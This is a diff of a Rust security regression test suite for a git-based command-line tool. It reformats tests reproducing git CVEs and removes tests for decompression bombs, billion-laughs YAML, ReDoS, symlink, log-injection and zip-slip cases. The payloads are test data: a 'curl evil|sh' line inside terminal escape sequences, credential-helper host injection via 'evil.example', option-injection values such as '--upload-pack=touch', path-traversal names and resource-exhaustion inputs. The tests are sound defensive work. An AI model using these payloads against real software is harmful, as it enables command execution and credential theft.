@@ -3,14 +3,11 @@
 
 use std::path::Path;
 
-use super::{files, holds, repository, script, sound};
+use super::{files, repository, script, sound};
 use crate::server::RawServer;
-use crate::support::{Listener, Output, Repo, World, any_git, each_git};
+use crate::support::{Listener, Repo, World, any_git, each_git};
 
-/// Memory that a process may use while it looks at something that wants to be large, in KiB. Far more than it needs.
-const MEMORY: u32 = 1_500_000;
-
-fn link(target: impl AsRef<Path>, name: impl AsRef<Path>) {
+pub(super) fn link(target: impl AsRef<Path>, name: impl AsRef<Path>) {
     let name = name.as_ref();
     if name.symlink_metadata().is_ok_and(|found| found.is_dir()) {
         std::fs::remove_dir_all(name).expect("removed");
@@ -21,17 +18,11 @@ fn link(target: impl AsRef<Path>, name: impl AsRef<Path>) {
 }
 
 /// The mission's directory.
-fn mission(repo: &Repo<'_>) -> String {
+pub(super) fn mission(repo: &Repo<'_>) -> String {
     let entries = std::fs::read_dir(repo.at("kitty-specs")).expect("missions").flatten();
     let mut names: Vec<_> = entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
     names.sort();
     format!("kitty-specs/{}", names[0])
-}
-
-/// Runs the program with little memory and little time.
-fn bounded(repo: &Repo<'_>, args: &str) -> Output {
-    let program = World::mission_program().display();
-    repo.run("sh", &["-c", &format!("ulimit -v {MEMORY}; exec timeout 60 '{program}' {args}")])
 }
 
 /// CVE-2021-21300: a directory of the index is a link in the work tree when files are written.
@@ -47,7 +38,9 @@ fn cve_2021_21300_a_directory_that_is_a_link_by_now() {
             repo.write(&format!("{side}/meta.json"), "{\"slug\": \"side\", \"feature_number\": \"9\"}\n");
             repo.ok(&["add", "-A"]);
             repo.ok(&["commit", "-qnm", "side"]);
-            let staged = repo.read(&format!("{one}/meta.json")).replace("\"friendly_name\": \"One\"", "\"friendly_name\":\"Two\"");
+            let staged = repo
+                .read(&format!("{one}/meta.json"))
+                .replace("\"friendly_name\": \"One\"", "\"friendly_name\":\"Two\"");
             repo.write(&format!("{one}/meta.json"), &staged);
             repo.write(&format!("{side}/meta.json"), "{\"slug\":\"side\", \"feature_number\": \"8\"}\n");
             repo.ok(&["add", "-A"]);
@@ -58,7 +51,14 @@ fn cve_2021_21300_a_directory_that_is_a_link_by_now() {
             for directory in [&one, side] {
                 link(&victim, repo.at(directory));
             }
-            for args in [&["hook", "pre-commit"][..], &["migrate"], &["settle"], &["doctor", "--fix"], &["materialize"], &["resolve"]] {
+            for args in [
+                &["hook", "pre-commit"][..],
+                &["migrate"],
+                &["settle"],
+                &["doctor", "--fix"],
+                &["materialize"],
+                &["resolve"],
+            ] {
                 sound(&repo.mission(args));
             }
             sound(&repo.git(&["commit", "-qm", "with the hook"]));
@@ -81,11 +81,23 @@ fn cve_2024_32002_a_link_that_folds_to_a_directory() {
         repo.ok(&["commit", "-qnm", "a link"]);
         let before = files(&repo.at(".git/hooks"), &[]);
         for name in ["a", "A"] {
-            let blob = repo.stdin("{\"slug\": \"a\"}").ok(&["hash-object", "-w", "--stdin"]).line().to_owned();
+            let blob =
+                repo.stdin("{\"slug\": \"a\"}").ok(&["hash-object", "-w", "--stdin"]).line().to_owned();
             for file in ["meta.json", "status.json", "post-checkout"] {
-                repo.git(&["update-index", "--add", "--cacheinfo", &format!("100755,{blob},kitty-specs/{name}/{file}")]);
+                repo.git(&[
+                    "update-index",
+                    "--add",
+                    "--cacheinfo",
+                    &format!("100755,{blob},kitty-specs/{name}/{file}"),
+                ]);
             }
-            for args in [&["hook", "pre-commit"][..], &["migrate", "--stage"], &["settle", "--stage"], &["resolve"], &["create", "A", "--add"]] {
+            for args in [
+                &["hook", "pre-commit"][..],
+                &["migrate", "--stage"],
+                &["settle", "--stage"],
+                &["resolve"],
+                &["create", "A", "--add"],
+            ] {
                 sound(&repo.mission(args));
             }
         }
@@ -100,8 +112,21 @@ fn cve_2024_32002_a_link_that_folds_to_a_directory() {
 fn cve_2014_9390_and_cve_2019_1352_a_slug_that_is_a_git_directory() {
     let world = World::new(&any_git());
     for (at, slug) in [
-        ".git", ".GIT", "git~1", ".g\u{200c}it", ".git::$INDEX_ALLOCATION", ".git ", "../.git/hooks/x", "../../x", "/x", "..", "a/b",
-        "C:\\x", "-x", "a\nb", "\u{202e}x",
+        ".git",
+        ".GIT",
+        "git~1",
+        ".g\u{200c}it",
+        ".git::$INDEX_ALLOCATION",
+        ".git ",
+        "../.git/hooks/x",
+        "../../x",
+        "/x",
+        "..",
+        "a/b",
+        "C:\\x",
+        "-x",
+        "a\nb",
+        "\u{202e}x",
     ]
     .into_iter()
     .enumerate()
@@ -128,7 +153,8 @@ fn cve_2014_9390_and_cve_2019_1352_a_slug_that_is_a_git_directory() {
         repo.git(&["commit", "-qm", "merged"]);
         assert_eq!(files(&world.path(""), &[repo.path(), &world.path("tmp")]), world_before, "{slug:?}");
         assert_eq!(files(&repo.at(".git/hooks"), &[]), git, "{slug:?}");
-        let top: Vec<_> = std::fs::read_dir(repo.path()).expect("a directory").flatten().map(|e| e.file_name()).collect();
+        let top: Vec<_> =
+            std::fs::read_dir(repo.path()).expect("a directory").flatten().map(|e| e.file_name()).collect();
         assert_eq!(top.len(), 2, "{slug:?}: {top:?}");
         for entry in std::fs::read_dir(repo.at("kitty-specs")).expect("missions").flatten() {
             let name = entry.file_name().to_string_lossy().into_owned();
@@ -145,7 +171,11 @@ fn cve_2020_5260_and_cve_2024_52006_what_a_helper_is_asked() {
         let world = World::new(git);
         let repo = repository(&world, "repo");
         let asked = world.path("asked");
-        let helper = script(&repo, &world.path("helper"), &format!("cat >>'{}'\necho username=a\necho password=b", asked.display()));
+        let helper = script(
+            &repo,
+            &world.path("helper"),
+            &format!("cat >>'{}'\necho username=a\necho password=b", asked.display()),
+        );
         repo.ok(&["config", "--global", "credential.helper", &helper]);
         for server in [
             "https://evil.example%0ahost=good.example",
@@ -163,7 +193,13 @@ fn cve_2020_5260_and_cve_2024_52006_what_a_helper_is_asked() {
             "http://[::1%0ahost=good.example]",
         ] {
             let quoted = server.replace('\n', "\\n");
-            repo.write(".git/config", format!("{}\n[mission]\n\tsync = true\n\tserver = \"{quoted}\"\n", repo.read(".git/config").split("\n[mission]").next().unwrap_or_default()));
+            repo.write(
+                ".git/config",
+                format!(
+                    "{}\n[mission]\n\tsync = true\n\tserver = \"{quoted}\"\n",
+                    repo.read(".git/config").split("\n[mission]").next().unwrap_or_default()
+                ),
+            );
             for args in [&["sync", "bind"][..], &["sync", "status"], &["sync", "flush"], &["status"]] {
                 sound(&repo.mission(args));
             }
@@ -181,7 +217,10 @@ fn cve_2025_48384_a_carriage_return_at_the_end_of_a_value() {
         for path in ["hooks\r", "a\rb", "hooks\r/"] {
             let repo = world.init(&format!("repo{}", path.len()));
             std::fs::create_dir_all(repo.at(".git").join(path)).expect("a directory");
-            repo.write(".git/config", format!("{}[core]\n\thooksPath = \".git/{path}\"\n", repo.read(".git/config")));
+            repo.write(
+                ".git/config",
+                format!("{}[core]\n\thooksPath = \".git/{path}\"\n", repo.read(".git/config")),
+            );
             let plain = repo.at(".git").join(path.trim_end_matches(['\r', '/']));
             let before = plain.is_dir().then(|| files(&plain, &[]));
             sound(&repo.mission(&["install"]));
@@ -194,7 +233,13 @@ fn cve_2025_48384_a_carriage_return_at_the_end_of_a_value() {
         }
         // An address that ends so is none.
         let repo = repository(&world, "server");
-        repo.write(".git/config", format!("{}[mission]\n\tsync = true\n\tserver = \"http://127.0.0.1:9\r\"\n", repo.read(".git/config")));
+        repo.write(
+            ".git/config",
+            format!(
+                "{}[mission]\n\tsync = true\n\tserver = \"http://127.0.0.1:9\r\"\n",
+                repo.read(".git/config")
+            ),
+        );
         assert_eq!(repo.mission(&["sync", "bind"]).status, 2);
     });
 }
@@ -207,7 +252,11 @@ fn cve_2018_18074_and_cve_2022_27774_a_redirect_with_a_token() {
     let second = RawServer::start(drop);
     let mut number = 0;
     for status in [301, 302, 303, 307, 308] {
-        for target in [second.url(), second.url().replace("127.0.0.1", "localhost"), format!("//127.0.0.1:{}/", second.port())] {
+        for target in [
+            second.url(),
+            second.url().replace("127.0.0.1", "localhost"),
+            format!("//127.0.0.1:{}/", second.port()),
+        ] {
             let first = Listener::new(move |_| (status, target.clone()));
             number += 1;
             let repo = repository(&world, &format!("repo{number}"));
@@ -225,8 +274,10 @@ fn cve_2018_18074_and_cve_2022_27774_a_redirect_with_a_token() {
 #[test]
 fn cve_2008_2383_and_cve_2024_52005_words_of_a_server() {
     let world = World::new(&any_git());
-    let words = "\u{1b}]2;curl evil|sh\u{7}\u{1b}[21t\u{1b}P$q\ncurl evil|sh\n\u{1b}\\\u{9b}6n\rremote: forged";
-    let server = Listener::new(move |_| (400, serde_json::json!({"error": words, "detail": words}).to_string()));
+    let words =
+        "\u{1b}]2;curl evil|sh\u{7}\u{1b}[21t\u{1b}P$q\ncurl evil|sh\n\u{1b}\\\u{9b}6n\rremote: forged";
+    let server =
+        Listener::new(move |_| (400, serde_json::json!({"error": words, "detail": words}).to_string()));
     let repo = repository(&world, "repo");
     repo.mission(&["sync", "enable", "--server", server.url(), "--all"]).ok();
     for args in [&["sync", "bind"][..], &["sync", "flush"], &["sync", "failures"]] {
@@ -255,14 +306,33 @@ fn cve_2017_1000117_a_name_that_is_an_option() {
         let made = world.path("made").display().to_string();
         let before = files(&world.path(""), &[&repo.at(".git"), &world.path("tmp")]);
         let names = [
-            format!("--output={made}"), format!("-o{made}"), format!("--upload-pack=touch {made}"), format!("--exec=touch {made}"),
-            format!("-oProxyCommand=touch {made}"), "--all".to_owned(), "-z".to_owned(), "--git-dir=/".to_owned(), "--".to_owned(),
+            format!("--output={made}"),
+            format!("-o{made}"),
+            format!("--upload-pack=touch {made}"),
+            format!("--exec=touch {made}"),
+            format!("-oProxyCommand=touch {made}"),
+            "--all".to_owned(),
+            "-z".to_owned(),
+            "--git-dir=/".to_owned(),
+            "--".to_owned(),
         ];
         let config = repo.read(".git/config");
         for name in &names {
             for (key, value) in [("mainBranch", name.as_str()), ("authority", name), ("server", name)] {
-                repo.write(".git/config", format!("{config}[mission]\n\t{key} = \"{value}\"\n[remote]\n\tpushDefault = \"{value}\"\n"));
-                for args in [&["settle"][..], &["check"], &["status"], &["sync", "bind"], &["hook", "pre-commit"], &["hook", "post-commit"]] {
+                repo.write(
+                    ".git/config",
+                    format!(
+                        "{config}[mission]\n\t{key} = \"{value}\"\n[remote]\n\tpushDefault = \"{value}\"\n"
+                    ),
+                );
+                for args in [
+                    &["settle"][..],
+                    &["check"],
+                    &["status"],
+                    &["sync", "bind"],
+                    &["hook", "pre-commit"],
+                    &["hook", "post-commit"],
+                ] {
                     sound(&repo.mission(args));
                 }
             }
@@ -284,7 +354,13 @@ fn cve_2017_1000117_a_name_that_is_an_option() {
             repo.git(&["update-ref", &format!("refs/heads/{name}"), "HEAD"]);
         }
         repo.ok(&["add", "-A"]);
-        for args in [&["hook", "pre-commit"][..], &["migrate", "--dry-run"], &["doctor"], &["settle", "--dry-run"], &["list", "--rev", "main"]] {
+        for args in [
+            &["hook", "pre-commit"][..],
+            &["migrate", "--dry-run"],
+            &["doctor"],
+            &["settle", "--dry-run"],
+            &["list", "--rev", "main"],
+        ] {
             sound(&repo.mission(args));
         }
         let mut after = files(&world.path(""), &[&repo.at(".git"), &world.path("tmp")]);
@@ -292,7 +368,22 @@ fn cve_2017_1000117_a_name_that_is_an_option() {
         assert_eq!(after, before);
         // What names a side of a merge is no option of the driver.
         for label in &names {
-            let driver = ["merge-driver", "meta", "--base", "base", "--ours", "ours", "--theirs", "theirs", "--label-ours", label, "--label-theirs", label, "--path", label];
+            let driver = [
+                "merge-driver",
+                "meta",
+                "--base",
+                "base",
+                "--ours",
+                "ours",
+                "--theirs",
+                "theirs",
+                "--label-ours",
+                label,
+                "--label-theirs",
+                label,
+                "--path",
+                label,
+            ];
             for (file, text) in [("base", "{}\n"), ("ours", "{\"a\": 1}\n"), ("theirs", "{\"b\": 1}\n")] {
                 repo.write(file, text);
             }
@@ -311,7 +402,15 @@ fn cve_2022_24765_a_repository_of_somebody_else() {
         repo.mission(&["sync", "enable", "--server", &server.url(), "--all"]).ok();
         let others = repo.env("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1");
         let foreign = |repo: &Repo<'_>| {
-            for args in [&["list"][..], &["status"], &["doctor"], &["settle"], &["sync", "flush"], &["sync", "bind"], &["create", "x"]] {
+            for args in [
+                &["list"][..],
+                &["status"],
+                &["doctor"],
+                &["settle"],
+                &["sync", "flush"],
+                &["sync", "bind"],
+                &["create", "x"],
+            ] {
                 let output = repo.mission(args).exits(3);
                 assert!(output.stderr.contains("safe.directory"), "{output}");
             }
@@ -344,231 +443,4 @@ fn cve_2023_23946_a_patch_behind_a_link() {
         assert_eq!(outside.read("meta.json"), text);
         assert_ne!(repo.show(&format!("HEAD:{one}/meta.json")), text, "the commit has the canonical form");
     });
-}
-
-/// CVE-2016-2315's successors: what is small on the wire and large in memory.
-#[test]
-fn an_answer_that_unpacks_to_gigabytes() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    // 64 MiB of zeros, packed once; ten members of it in a row are 640 MiB, and their packed form once more.
-    let packed = |bytes: &[u8]| {
-        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
-        std::io::Write::write_all(&mut encoder, bytes).expect("packed");
-        encoder.finish().expect("packed")
-    };
-    let zeros = packed(&vec![b' '; 64 << 20]).repeat(30);
-    for (coding, content) in [("gzip", zeros.clone()), ("gzip, gzip", packed(&zeros)), ("deflate", zeros.clone()), ("identity", vec![b' '; 64 << 20])] {
-        let server = RawServer::start(move |stream| {
-            let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n", content.len());
-            crate::server::reply(stream, &[head.as_bytes(), &content].concat());
-        });
-        repo.mission(&["sync", "enable", "--server", &server.url(), "--all"]).ok();
-        let output = bounded(&repo, "sync flush --json");
-        sound(&output);
-        assert_ne!(output.status, 0, "{coding}: {output}");
-        sound(&bounded(&repo, "sync bind"));
-    }
-}
-
-/// CVE-2019-9192 and its like: answers and files that are deep, wide, or full of keys that fall together.
-#[test]
-fn json_that_is_deep_or_wide() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    let wide = |count: usize| {
-        let keys: Vec<String> = (0..count).map(|at| format!("\"k{at}\":{at}")).collect();
-        format!("{{{}}}", keys.join(","))
-    };
-    for content in [
-        "[".repeat(100_000),
-        "{\"results\":".repeat(100_000),
-        format!("{{\"results\": {}{}}}", "[".repeat(50_000), "]".repeat(50_000)),
-        wide(200_000),
-        format!("{{\"results\": [{}]}}", vec!["{}"; 500_000].join(",")),
-        format!("{{\"error\": \"{}\"}}", "\\u0000".repeat(300_000)),
-        format!("{{\"a\": {}}}", "9".repeat(2_000_000)),
-    ] {
-        let answer = content.clone();
-        let server = Listener::new(move |_| (400, answer.clone()));
-        repo.mission(&["sync", "enable", "--server", server.url(), "--all"]).ok();
-        for args in ["sync flush --json", "sync bind"] {
-            sound(&bounded(&repo, args));
-        }
-        let one = mission(&repo);
-        for name in ["meta.json", "status.events.jsonl", "status.json", "acceptance-matrix.json"] {
-            let kept = std::fs::read(repo.at(&format!("{one}/{name}"))).ok();
-            repo.write(&format!("{one}/{name}"), &content);
-            for args in ["doctor", "migrate --dry-run", "materialize", "list"] {
-                sound(&bounded(&repo, args));
-            }
-            match kept {
-                Some(bytes) => repo.write(&format!("{one}/{name}"), bytes),
-                None => std::fs::remove_file(repo.at(&format!("{one}/{name}"))).expect("removed"),
-            }
-        }
-    }
-}
-
-/// CVE-2013-0156's cousins, the billion laughs: a small YAML file that is a large one.
-#[test]
-fn yaml_that_laughs() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    repo.mission(&["sync", "enable", "--server", "http://127.0.0.1:9"]).ok();
-    let mut laughs = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n".to_owned();
-    for level in 1..40 {
-        let before = format!("*a{}", level - 1);
-        laughs += &format!("a{level}: &a{level} [{}]\n", vec![before; 9].join(", "));
-    }
-    for text in [
-        format!("{laughs}project: *a39\n"),
-        format!("{laughs}project:\n  uuid: *a39\nbuild: *a39\n"),
-        format!("project: {}\n", "[".repeat(100_000)),
-        format!("{}a\n", "- ".repeat(50_000)),
-        format!("project: &a\n  uuid: *a\n  <<: *a\n{}", "x: &x [*x]\n".repeat(100)),
-        format!("? {}\n", "? ".repeat(50_000)),
-        format!("project:\n  uuid: \"{}\"\n", "a".repeat(20_000_000)),
-        "a: b\n".repeat(300_000),
-    ] {
-        repo.write(".kittify/config.yaml", &text);
-        for args in ["sync bind --dry-run", "doctor", "sync enqueue --all"] {
-            let output = bounded(&repo, args);
-            sound(&output);
-            assert_ne!(output.status, 124, "in time: {}", &text[..60.min(text.len())]);
-        }
-        // As the list of expected artifacts, from the tree.
-        std::fs::remove_file(repo.at(".kittify/config.yaml")).expect("removed");
-        for place in ["software-dev/expected-artifacts.yaml", ".kittify/missions/software-dev/expected-artifacts.yaml"] {
-            repo.write(place, &text);
-        }
-        repo.ok(&["add", "-A"]);
-        repo.ok(&["commit", "-qnm", "manifest"]);
-        let output = bounded(&repo, "sync enqueue --all");
-        sound(&output);
-    }
-}
-
-/// CWE-1333: a pattern that a repository chooses, and a name that it almost matches.
-#[test]
-fn a_pattern_that_is_tried_over_and_over() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    let one = mission(&repo);
-    repo.write(&format!("{one}/research/{}.md", "a".repeat(100)), "# a\n");
-    let pattern = format!("research/{}b.md", "*a".repeat(40));
-    repo.write("software-dev/expected-artifacts.yaml", format!("required_always:\n  - path_pattern: \"{pattern}\"\n"));
-    repo.ok(&["add", "-A"]);
-    repo.ok(&["commit", "-qnm", "pattern"]);
-    repo.mission(&["sync", "enable", "--server", "http://127.0.0.1:9"]);
-    let output = bounded(&repo, "sync enqueue --all");
-    assert!(output.ok().stdout.contains("queued"));
-}
-
-/// Links that somebody else put into `.git/mission` of a repository that several people share: what they point at is
-/// not written, truncated or read.
-#[test]
-fn links_among_our_own_files() {
-    let world = World::new(&any_git());
-    let names = [
-        "queue.db", "queue.lock", "queue.db-wal", "queue.db-shm", "sync.log", "unfinished", "unfinished.new", "build-id", "settings",
-        "pre-commit", "rewrite.lock", "traces/pre-commit", "traces/post-commit", "disturbed", "install/ledger", "index.new",
-    ];
-    for alone in names.iter().map(|name| vec![*name]).chain([names.to_vec()]) {
-        let repo = repository(&world, &format!("r{}", alone.join("-").replace('/', "-").len() * 31 + alone[0].len() * 7 + alone[0].bytes().map(usize::from).sum::<usize>()));
-        repo.mission(&["sync", "enable", "--server", "http://127.0.0.1:9", "--all"]).ok();
-        let outside = format!("precious-{}", repo.path().file_name().expect("a name").to_string_lossy());
-        for name in &alone {
-            // As long as a trace, so that it could be taken for one.
-            world.directory(&outside).write(name, "2026-01-01T00:00:00.000000+00:00 ran    \n");
-            let place = repo.at(".git/mission").join(name);
-            std::fs::create_dir_all(place.parent().expect("a directory")).expect("a directory");
-            link(world.path(&outside).join(name), place);
-        }
-        let before = files(&world.path(&outside), &[]);
-        for args in [
-            &["create", "Two", "--add"][..], &["hook", "pre-commit"], &["settle"], &["migrate"], &["sync", "enqueue", "--all"],
-            &["sync", "flush"], &["hook", "post-commit"], &["status"], &["doctor", "--fix"], &["sync", "status"],
-        ] {
-            sound(&repo.mission(args));
-        }
-        repo.git(&["commit", "-qm", "two"]);
-        repo.git(&["push", "-q", "origin", "main"]);
-        let changed: Vec<_> = files(&world.path(&outside), &[])
-            .into_iter()
-            .filter(|(path, bytes)| before.get(path) != Some(bytes))
-            .map(|(path, bytes)| (path, String::from_utf8_lossy(&bytes).into_owned()))
-            .collect();
-        assert!(changed.is_empty(), "{alone:?}: {changed:?}");
-    }
-}
-
-/// A name with a newline makes lines in a log that nobody wrote (CWE-117).
-#[test]
-fn a_log_of_our_own_lines() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    repo.mission(&["sync", "enable", "--server", "http://127.0.0.1:9"]).ok();
-    let forged = "2026-01-01T00:00:00+00:00 event forged";
-    for name in ["a\n2026-01-01T00:00:00+00:00 event forged", "b\r\n\u{1b}[2J", "c\u{2028}d", "e\u{85}f"] {
-        repo.write(&format!("kitty-specs/{name}/meta.json"), "{\"slug\": \"x\"}\n");
-        repo.write(&format!("kitty-specs/{name}/research/{name}.md"), "# x\n");
-    }
-    repo.ok(&["add", "-A"]);
-    repo.ok(&["commit", "-qnm", "names"]);
-    sound(&repo.mission(&["sync", "enqueue", "--all"]));
-    let log = repo.read(".git/mission/sync.log");
-    assert!(log.lines().count() > 4, "{log}");
-    for line in log.lines() {
-        assert!(line.starts_with("20") && !line.starts_with(forged) && !line.contains('\u{1b}'), "{line:?}");
-    }
-}
-
-/// CVE-2022-29187's neighbour: variables that a parent git left, for another repository.
-#[test]
-fn variables_of_another_repository() {
-    let world = World::new(&any_git());
-    let (mine, other) = (repository(&world, "mine"), repository(&world, "other"));
-    let before = files(&other.at(".git"), &[&other.at(".git/mission")]);
-    let index = other.at(".git/index");
-    for (name, value) in [
-        ("GIT_INDEX_FILE", index.clone()),
-        ("GIT_OBJECT_DIRECTORY", other.at(".git/objects")),
-        ("GIT_PREFIX", "../other/".into()),
-        ("GIT_NAMESPACE", "x".into()),
-        ("GIT_EXTERNAL_DIFF", "false".into()),
-        ("GIT_PROXY_COMMAND", "false".into()),
-        ("GIT_SSH_COMMAND", "false".into()),
-    ] {
-        // Named by a path, the index is meant; git's own rule. It is not told by what lies beside it.
-        for args in [&["list"][..], &["status"], &["doctor"], &["check"]] {
-            sound(&mine.env(name, &value).mission(args));
-        }
-    }
-    assert_eq!(files(&other.at(".git"), &[&other.at(".git/mission")]), before);
-    let told = mine.env("GIT_DIR", other.at(".git")).env("GIT_WORK_TREE", other.path()).mission(&["status", "--json"]).ok();
-    assert!(!told.stdout.contains("internal"), "{told}");
-}
-
-/// CVE-2018-1002200 and its like ("zip slip"): rows of a queue that was taken over name places outside.
-#[test]
-fn rows_that_lead_out_of_a_directory() {
-    let world = World::new(&any_git());
-    let repo = repository(&world, "repo");
-    let served = world.path("served");
-    repo.mission(&["sync", "enable", "--server", &format!("file://{}", served.display()), "--all"]).ok();
-    let outside = files(&world.path(""), &[repo.path(), &served, &world.path("tmp"), &world.path("repo.git")]);
-    let database = rusqlite::Connection::open(repo.at(".git/mission/queue.db")).expect("a queue");
-    for (column, value) in [
-        ("artifact_path", "../../../../x.md"), ("mission_slug", "../../x"), ("content_hash", "../../../x"), ("project_uuid", "/x"),
-        ("target_branch", "../x"), ("mission_type", "..\\x"), ("manifest_version", "\u{1b}/x"),
-    ] {
-        let _ = database.execute(&format!("UPDATE OR IGNORE body_upload_queue SET {column} = ?1"), [value]);
-        repo.git(&["push", "-q", "--no-verify", "origin", "main"]);
-        for args in [&["sync", "flush"][..], &["sync", "status"], &["sync", "failures"], &["sync", "retry"]] {
-            sound(&repo.mission(args));
-        }
-    }
-    assert_eq!(files(&world.path(""), &[repo.path(), &served, &world.path("tmp"), &world.path("repo.git")]), outside);
-    assert!(files(&served, &[]).values().all(|bytes| !holds(bytes, "\u{1b}")));
 }
